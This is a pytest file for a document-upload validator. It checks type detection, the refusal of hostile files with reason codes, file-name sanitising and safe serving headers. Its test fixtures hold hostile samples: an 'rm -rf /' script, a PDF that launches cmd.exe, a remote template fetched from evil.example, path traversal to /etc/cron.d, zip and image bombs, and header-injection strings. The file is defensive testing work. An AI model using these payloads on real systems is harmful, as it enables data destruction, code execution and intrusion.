"""A file is what its content is. What is broken, locked, active, nested or two things at once is refused by a code."""

import io
import zipfile
import zlib

import pytest
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from sunhall.documents import rules
from sunhall.kernel.refused import Refused

DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"


def pdf(pages: int = 2, change=None) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(595, 842)
    if change:
        change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def image(kind: str = "PNG", size: tuple[int, int] = (40, 30)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, "white").save(out, kind)
    return out.getvalue()


def package(entries: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as made:
        for name, content in entries.items():
            made.writestr(name, content)
    return out.getvalue()


def types(main: str) -> bytes:
    return (
        f'<?xml version="1.0"?><Types><Override PartName="/x" ContentType="application/vnd.{main}"/></Types>'.encode()
    )


WORD = {
    "[Content_Types].xml": types("openxmlformats-officedocument.wordprocessingml.document.main+xml"),
    "word/document.xml": b"<w:document/>",
    "word/_rels/document.xml.rels": (
        b'<Relationships><Relationship Id="r1" Type="http://x/relationships/hyperlink" '
        b'Target="https://example.org" TargetMode="External"/></Relationships>'
    ),
}
SHEET = {"[Content_Types].xml": types("openxmlformats-officedocument.spreadsheetml.sheet.main+xml")}
OFD = {"OFD.xml": b'<ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016" Version="1.0"/>', "Doc_0/Document.xml": b"<x/>"}


def test_a_pdf_is_told_with_its_pages():
    found = rules.inspect(pdf(3), "申请书.pdf")
    assert (found.media_type, found.pages, found.name, found.extension_matches) == (
        "application/pdf",
        3,
        "申请书.pdf",
        True,
    )


@pytest.mark.parametrize(("kind", "media_type"), [
    ("PNG", "image/png"), ("JPEG", "image/jpeg"), ("WEBP", "image/webp"), ("TIFF", "image/tiff"), ("BMP", "image/bmp"),
])  # fmt: skip
def test_an_image_is_told_with_its_size(kind, media_type):
    found = rules.inspect(image(kind), "照片")
    assert (found.media_type, found.width, found.height) == (media_type, 40, 30)


@pytest.mark.parametrize(
    ("entries", "media_type"),
    [
        (WORD, DOCX),
        (SHEET, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
        (OFD, "application/ofd"),
    ],
)
def test_office_files_and_ofd_are_told_apart_by_what_is_in_the_package(entries, media_type):
    assert rules.inspect(package(entries), "x").media_type == media_type


def test_a_wrong_extension_is_told_and_the_true_type_is_taken():
    found = rules.inspect(image("JPEG"), "营业执照.pdf")
    assert (found.media_type, found.extension_matches) == ("image/jpeg", False)


def javascript(writer: PdfWriter) -> None:
    script = {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")}
    writer.root_object[NameObject("/OpenAction")] = writer._add_object(DictionaryObject(script))


def launch(writer: PdfWriter) -> None:
    action = {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")}
    writer.root_object[NameObject("/OpenAction")] = DictionaryObject(action)


def orphan_script(writer: PdfWriter) -> None:
    writer._add_object(DictionaryObject({NameObject("/S"): NameObject("/JavaScript")}))


def attachment(writer: PdfWriter) -> None:
    writer.add_attachment("x.exe", b"MZ")


def form_script(writer: PdfWriter) -> None:
    writer.root_object[NameObject("/AcroForm")] = DictionaryObject({NameObject("/XFA"): TextStringObject("x")})


def encrypt(writer: PdfWriter) -> None:
    writer.encrypt("secret")


def png_bomb() -> bytes:
    """A PNG of 30,000 × 30,000 pixels in a few hundred bytes of header and no picture."""
    header = (30_000).to_bytes(4, "big") * 2 + b"\x08\x02\x00\x00\x00"

    def chunk(name: bytes, body: bytes) -> bytes:
        return len(body).to_bytes(4, "big") + name + body + zlib.crc32(name + body).to_bytes(4, "big")

    data = zlib.compress(b"\0" * 10_000)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


HOSTILE_FILES = {
    "an empty file": (b"", "file_empty"),
    "html": (b"<!DOCTYPE html><html><script>alert(1)</script>", "file_type_not_allowed"),
    "html behind a byte order mark": (b"\xef\xbb\xbf\n <HTML><body>", "file_type_not_allowed"),
    "svg": (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>', "file_type_not_allowed"),
    "a windows program": (b"MZ\x90\x00" + b"\0" * 200, "file_type_not_allowed"),
    "a linux program": (b"\x7fELF" + b"\0" * 200, "file_type_not_allowed"),
    "a shell script": (b"#!/bin/sh\nrm -rf /\n", "file_type_not_allowed"),
    "an old word file": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "file_type_not_allowed"),
    "plain text": ("姓名,电话\n".encode(), "file_type_not_allowed"),
    "noise": (bytes(range(7, 250)) * 9, "file_type_not_allowed"),
    "a bare zip": (package({"a.txt": b"x"}), "file_type_not_allowed"),
    "an encrypted pdf": (pdf(1, encrypt), "pdf_encrypted"),
    "a cut pdf": (pdf(2)[:120], "pdf_broken"),
    "only a pdf header": (b"%PDF-1.7\n", "pdf_broken"),
    "a pdf with a script": (pdf(1, javascript), "pdf_active"),
    "a pdf that starts a program": (pdf(1, launch), "pdf_active"),
    "a pdf with a script nothing points to": (pdf(1, orphan_script), "pdf_active"),
    "a pdf with a scripted form": (pdf(1, form_script), "pdf_active"),
    "a pdf with a file in it": (pdf(1, attachment), "pdf_attachments"),
    "a pdf that is also a zip": (pdf(1) + package({"a.exe": b"MZ"}), "file_is_two_things"),
    "a picture that is also a zip": (image("PNG") + package({"a.class": b"x"}), "file_is_two_things"),
    "a picture with html behind it": (image("PNG") + b"<script>alert(1)</script>", "file_is_two_things"),
    "a picture with a pdf behind it": (image("JPEG") + pdf(1), "file_is_two_things"),
    "a cut picture": (image("PNG", (400, 300))[:90], "image_broken"),
    "a picture bomb": (png_bomb(), "image_too_many_pixels"),
    "a sheet with macros": (
        package({**SHEET, "xl/vbaProject.bin": b"x"}),
        "office_active",
    ),
    "a document of the macro kind": (
        package({**WORD, "[Content_Types].xml": types("ms-word.document.macroEnabled.main+xml")}),
        "office_active",
    ),
    "a document with an object in it": (package({**WORD, "word/embeddings/oleObject1.bin": b"x"}), "office_active"),
    "a document with a template elsewhere": (
        package({
            **WORD,
            "word/_rels/settings.xml.rels": (
                b'<Relationships><Relationship Id="r" Type="http://x/relationships/attachedTemplate" '
                b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
            ),
        }),
        "office_active",
    ),
    "a document with entities": (
        package({**WORD, "word/_rels/x.rels": b'<!DOCTYPE x [<!ENTITY a "b">]><Relationships/>'}),
        "package_broken",
    ),
    "a zip bomb": (package({**WORD, "word/media/x": b"\0" * 60_000_000}), "package_unpacks_too_large"),
    "a package of ten thousand parts": (
        package({**WORD, **{f"word/{n}": b"" for n in range(6000)}}),
        "package_too_many_entries",
    ),
    "a package with a path upwards": (package({**WORD, "../../etc/cron.d/x": b"x"}), "package_broken"),
    "a cut package": (package(WORD)[:150], "package_broken"),
}  # fmt: skip


@pytest.mark.parametrize(("content", "code"), HOSTILE_FILES.values(), ids=HOSTILE_FILES)
def test_hostile_files_are_refused_with_their_reason(content, code):
    with pytest.raises(Refused) as refused:
        rules.inspect(content, "材料.pdf")
    assert refused.value.code == code


def test_a_file_over_the_limit_is_refused_with_both_sizes():
    with pytest.raises(Refused) as refused:
        rules.inspect(b"%PDF-" + b"\0" * 2000, "big.pdf", max_bytes=1000)
    assert (refused.value.code, refused.value.facts["size"], refused.value.facts["limit"]) == (
        "file_too_large",
        2005,
        1000,
    )


def test_a_type_that_this_matter_does_not_take_is_refused_with_what_it_takes():
    with pytest.raises(Refused) as refused:
        rules.inspect(image("PNG"), "x.png", allowed={"application/pdf"})
    assert refused.value.facts["found"] == "image/png"
    assert refused.value.facts["allowed"] == ["application/pdf"]


def test_a_phone_photo_of_fifty_million_pixels_is_taken():
    assert rules.inspect(image("JPEG", (8192, 6144)), "IMG.jpg").width == 8192


@pytest.mark.parametrize(
    ("name", "kept"),
    [
        ("..\\..\\windows\\system32\\a.pdf", "a.pdf"),
        ("/etc/passwd", "passwd"),
        ("a\x00b\r\nc.pdf", "abc.pdf"),
        ("图纸\u202efdp.exe", "图纸fdp.exe"),
        ("   ...  ", "file"),
        ("", "file"),
        ("长" * 300 + ".pdf", "长" * 116 + ".pdf"),
        ('a"b<c>|?*.pdf', "abc.pdf"),
    ],
)
def test_a_name_keeps_nothing_that_could_mislead(name, kept):
    assert rules.safe_name(name) == kept
    assert len(rules.safe_name(name)) <= 120


def test_files_are_served_unsniffed_unrun_and_under_their_true_type():
    headers = rules.serving_headers("image/jpeg", "执照\r\nSet-Cookie: x.pdf", inline=True)
    assert headers["Content-Type"] == "image/jpeg"
    assert headers["Content-Disposition"].startswith("inline; ")
    assert headers["Content-Disposition"].endswith(".jpg")
    assert "\n" not in headers["Content-Disposition"]
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in headers["Content-Security-Policy"]


@pytest.mark.parametrize("media_type", [DOCX, "application/ofd", "image/tiff", "text/html"])
def test_only_pdf_and_pictures_are_shown_in_the_browser(media_type):
    headers = rules.serving_headers(media_type, "x", inline=True)
    assert headers["Content-Disposition"].startswith("attachment; ")
    assert headers["Content-Type"] != "text/html"
